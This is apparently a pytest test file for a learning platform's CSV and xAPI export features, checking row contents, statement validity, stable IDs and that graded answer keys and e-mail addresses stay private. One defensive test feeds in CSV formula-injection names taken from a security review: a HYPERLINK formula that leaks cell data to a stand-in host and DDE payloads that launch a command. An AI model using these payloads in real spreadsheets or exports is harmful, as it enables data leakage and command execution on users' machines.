"""Exports: CSV of learners, progress and results, and xAPI statements that an independent
validator (npm xapi-validation) accepts, with stable IDs."""
import csv
import io
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from brokerlearn.cli import main

REPO = Path(__file__).resolve().parents[1]
QUIZ = "/api/quizzes/example/m2-assessment"


@pytest.fixture
def activity(app, learner, built_example):
    ana, bo = learner("ana@agency.org"), learner("bo@agency.org")
    ana.api("post", "/api/progress", {"events": [
        {"event_id": "evt-a-0001", "course": "example", "kind": "lesson_viewed",
         "item": "finding-partners/cooperation-profiles", "value": 95, "at": "2026-11-20T10:00:00Z"},
        {"event_id": "evt-a-0002", "course": "example", "kind": "lesson_completed",
         "item": "finding-partners/cooperation-profiles"},
        {"event_id": "evt-a-0003", "course": "example", "kind": "video_progress", "item": "partner-call",
         "value": 0.92},
        {"event_id": "evt-a-0004", "course": "example", "kind": "practice_answered", "item": "assess-practice/p1",
         "value": 1}]})
    attempt = ana.api("post", f"{QUIZ}/attempts").get_json()["id"]
    ana.api("post", f"{QUIZ}/attempts/{attempt}", {"answers": {"q1": True}})
    bo.api("post", "/api/progress", {"events": [{"event_id": "evt-b-0001", "course": "example",
                                                 "kind": "lesson_completed", "item": "working-together/first-meeting"}]})
    return app


def export(app, built_example, *args) -> str:
    env = {"DATABASE_URL": app.config["DATABASE_URL"]}
    result = CliRunner().invoke(main, ["export", *args, "--build-dir", str(built_example),
                                       "--instance", app.instance_path], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_exports(activity, built_example):
    learners = rows(export(activity, built_example, "csv", "learners"))
    assert [(r["email"], r["lessons_completed"], r["graded_attempts"]) for r in learners] == [
        ("ana@agency.org", "1", "1"), ("bo@agency.org", "1", "0")]
    progress = rows(export(activity, built_example, "csv", "progress"))
    ana = next(r for r in progress if r["email"] == "ana@agency.org")
    assert (ana["course"], ana["lessons_completed"], ana["lessons"], ana["seconds_spent"], ana["videos_watched"]) == \
        ("example", "1", "3", "95", "1")
    results = rows(export(activity, built_example, "csv", "results"))
    assert [(r["email"], r["quiz"], r["attempt"], r["score"], r["passed"]) for r in results] == [
        ("ana@agency.org", "m2-assessment", "1", "1.0", "no")]


def test_xapi_statements_are_valid_and_stable(activity, built_example, tmp_path):
    text = export(activity, built_example, "xapi", "--public-url", "https://learn.example.org")
    statements = [json.loads(line) for line in text.splitlines()]
    verbs = sorted(s["verb"]["display"]["en-US"] for s in statements)
    assert verbs == ["answered", "completed", "completed", "experienced", "failed", "progressed"]
    lines = tmp_path / "statements.jsonl"
    lines.write_text(text)
    output = subprocess.run(["node", str(REPO / "tests/tools/validate_xapi.cjs"), str(lines)], cwd=REPO,
                            capture_output=True, text=True, check=True).stdout
    assert json.loads(output) == {}
    completed = next(s for s in statements if s["verb"]["display"]["en-US"] == "completed"
                     and "cooperation-profiles" in s["object"]["id"])
    assert completed["object"]["id"] == "https://learn.example.org/example/finding-partners/cooperation-profiles/"
    assert completed["verb"]["id"] == "http://adlnet.gov/expapi/verbs/completed"
    assert "@" not in json.dumps([s["actor"] for s in statements])  # no e-mail addresses leave the server
    again = [json.loads(line) for line in export(activity, built_example, "xapi", "--public-url",
                                                 "https://learn.example.org").splitlines()]
    assert [s["id"] for s in again] == [s["id"] for s in statements]


# The names of the security review's F9 (CSV / formula injection).
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_never_start_a_formula(app, visitor, learner, built_example):
    from sqlalchemy import update

    from brokerlearn.server import db
    from brokerlearn.server.models import User
    for number, name in enumerate(FORMULA_NAMES):
        printable = name.isprintable()  # registration now refuses control characters in names:
        assert visitor().register(f"f{number}@agency.org", name=name if printable else "x").status_code == 302
        if not printable:  # ... but an account made before that rule may still hold one
            with app.app_context():
                db.session().execute(update(User).where(User.email == f"f{number}@agency.org").values(name=name))
                db.session().commit()
    visitor().register("=1+1@test.local")
    ana = learner("ana@agency.org")
    done = {"event_id": "evt-a-0002", "course": "example", "kind": "lesson_completed",
            "item": "finding-partners/cooperation-profiles"}
    ana.api("post", "/api/progress", {"events": [done]})
    for what in ("learners", "progress", "results"):
        table = list(csv.reader(io.StringIO(export(app, built_example, "csv", what))))
        for row in table[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
    learners = {r["email"]: r for r in rows(export(app, built_example, "csv", "learners"))}
    assert {r["name"] for r in learners.values()} >= {"'" + name for name in FORMULA_NAMES}
    assert "'=1+1@test.local" in learners
    assert learners["ana@agency.org"]["lessons_completed"] == "1"  # numbers stay numbers


def test_admin_list_counts_lessons_per_course_as_the_csv_does(app, learner, built_example, tmp_path):
    """Two courses sharing 'module/lesson' IDs (every scaffolded course has introduction/welcome)."""
    from brokerlearn.server import db
    from brokerlearn.server.courses import CourseCatalog
    from brokerlearn.server.services.accounts import find_user, set_role
    server_dir = tmp_path / "server"
    shutil.copytree(built_example / "server", server_dir)
    twin = json.loads((server_dir / "example.json").read_text())
    twin["id"] = "example-twin"
    (server_dir / "example-twin.json").write_text(json.dumps(twin))
    app.extensions["brokerlearn_courses"] = CourseCatalog(server_dir)
    ana = learner("ana@agency.org")
    lesson = "finding-partners/cooperation-profiles"
    response = ana.api("post", "/api/progress", {"events": [
        {"event_id": f"evt-{course}-01", "course": course, "kind": "lesson_completed", "item": lesson}
        for course in ("example", "example-twin")]})
    assert response.get_json()["recorded"] == 2
    boss = learner("boss@agency.org")
    with app.app_context():
        set_role(db.session(), find_user(db.session(), "boss@agency.org"), "admin")
    boss.login("boss@agency.org")
    html = boss.client.get("/admin/learners?q=ana").get_data(as_text=True)
    text = lambda cells: [re.sub(r"<[^>]+>", "", c).strip() for c in cells]  # noqa: E731
    header = text(re.findall(r"<th[^>]*>(.*?)</th>", html, re.S))
    row = re.search(r"<tr>((?:(?!</tr>).)*ana@agency\.org.*?)</tr>", html, re.S).group(1)
    shown = dict(zip(header, text(re.findall(r"<td[^>]*>(.*?)</td>", row, re.S))))
    learners = {r["email"]: r for r in rows(export(app, built_example, "csv", "learners"))}
    assert learners["ana@agency.org"]["lessons_completed"] == "2"
    assert shown["Lessons completed"] == "2"


def test_answered_statements_define_their_interaction(app, learner, built_example, tmp_path):
    """xAPI 1.0.3 Data 2.4.4.1: a cmi.interaction activity has an interactionType; names are the
    prompt and the quiz title, not IDs; the key goes out for practice questions only."""
    ana = learner()
    items = ["assess-practice/p1"] + [f"m2-assessment/q{n}" for n in range(1, 8)]
    ana.api("post", "/api/progress", {"events": [
        {"event_id": f"evt-ans-{n:04}", "course": "example", "kind": "practice_answered", "item": item, "value": 1}
        for n, item in enumerate(items)]})
    text = export(app, built_example, "xapi", "--public-url", "https://learn.example.org")
    lines = tmp_path / "statements.jsonl"
    lines.write_text(text)
    output = subprocess.run(["node", str(REPO / "tests/tools/validate_xapi.cjs"), str(lines)], cwd=REPO,
                            capture_output=True, text=True, check=True).stdout
    assert json.loads(output) == {}
    answered = {s["object"]["id"].rsplit("/quizzes/", 1)[1]: s for s in map(json.loads, text.splitlines())
                if s["verb"]["display"]["en-US"] == "answered"}
    definitions = {item: s["object"]["definition"] for item, s in answered.items()}
    assert all(d["type"] == "http://adlnet.gov/expapi/activities/cmi.interaction" for d in definitions.values())
    assert {item: d["interactionType"] for item, d in definitions.items()} == {
        "assess-practice/p1": "choice", "m2-assessment/q1": "true-false", "m2-assessment/q2": "choice",
        "m2-assessment/q3": "numeric", "m2-assessment/q4": "fill-in", "m2-assessment/q5": "sequencing",
        "m2-assessment/q6": "matching", "m2-assessment/q7": "long-fill-in"}
    practice = definitions["assess-practice/p1"]
    assert practice["name"] == {"en": "Which criterion asks whether a candidate can commit people soon?"}
    capacity = next(c["id"] for c in practice["choices"] if c["description"]["en"] == "Capacity")
    assert practice["correctResponsesPattern"] == [capacity]
    quiz = answered["assess-practice/p1"]["context"]["contextActivities"]
    assert quiz["parent"][0]["definition"]["name"] == {"en": "Check your understanding"}
    assert quiz["grouping"][0]["id"] == "https://learn.example.org/example/"
    # A graded question's key stays on the server.
    assert not any("correctResponsesPattern" in d for item, d in definitions.items() if item.startswith("m2-"))
    assert [p["description"]["en"] for p in definitions["m2-assessment/q6"]["source"]][0] == "Fit"
    assert "assess-practice/p1" not in json.dumps([d["name"] for d in definitions.values()])


@pytest.mark.parametrize("question, pattern", [
    ({"type": "multiple", "options": [{"id": "a", "correct": True}, {"id": "b", "correct": False},
                                      {"id": "c", "correct": True}]}, ["a[,]c"]),
    ({"type": "truefalse", "answer": False}, ["false"]),
    ({"type": "numeric", "answer": 25.0, "tolerance": 0.0}, ["25"]),
    ({"type": "numeric", "answer": 2.5, "tolerance": 0.5}, ["2[:]3"]),
    ({"type": "text", "accept": ["capacity", "capacities"], "pattern": None}, ["capacity", "capacities"]),
    ({"type": "text", "accept": [], "pattern": "^capacit(y|ies)$"}, None),
    ({"type": "order", "items": [{"id": "i1"}, {"id": "i2"}, {"id": "i3"}]}, ["i1[,]i2[,]i3"]),
    ({"type": "match", "pairs": [{"left_id": "l1", "right_id": "r1"}, {"left_id": "l2", "right_id": "r2"}]},
     ["l1[.]r1[,]l2[.]r2"]),
    ({"type": "reflection"}, None),
])
def test_correct_responses_patterns(question, pattern):
    from brokerlearn.course.questions import Question, xapi_interaction
    question = dict(question)
    options = [{"text": "", "feedback": None, **o} for o in question.pop("options", [])]
    items = [{"text": "", **i} for i in question.pop("items", [])]
    pairs = [{"left": "", "right": "", **p} for p in question.pop("pairs", [])]
    typed = Question.from_json({"id": "q", "prompt": "", "outcomes": [], "points": 1, "explanation": None,
                                "options": options, "items": items, "pairs": pairs, **question})
    assert xapi_interaction(typed, "en", with_key=True).get("correctResponsesPattern") == pattern


def test_statements_are_written_from_plain_records_and_the_manifest(built_example):
    """The xAPI writer needs no database: any record with the fields of a progress event will do."""
    from dataclasses import dataclass
    from datetime import datetime, timezone

    from brokerlearn.course.manifest import load
    from brokerlearn.exports.xapi import StatementMaker

    @dataclass
    class Event:
        user_id: int
        event_id: str
        course_id: str
        kind: str
        item_id: str
        value: float | None
        occurred_at: datetime
    course = load(built_example / "server" / "example.json")
    maker = StatementMaker([course], "https://learn.example.org/", watched_share=0.9)
    at = datetime(2026, 11, 20, 10, 0, tzinfo=timezone.utc)
    video = maker.event(Event(7, "evt-v-0001", "example", "video_progress", "partner-call", 0.85, at))
    assert video["object"]["definition"]["name"] == {"en": course.videos["partner-call"].title}
    assert video["result"]["completion"] is False and video["timestamp"] == "2026-11-20T10:00:00.000Z"
    lesson = maker.event(Event(7, "evt-l-0001", "example", "lesson_completed", "working-together/first-meeting",
                               None, at))
    assert lesson["object"]["definition"]["name"] == {"en": "Planning a first online meeting"}
    assert lesson["actor"]["account"] == {"homePage": "https://learn.example.org", "name": "learner-7"}
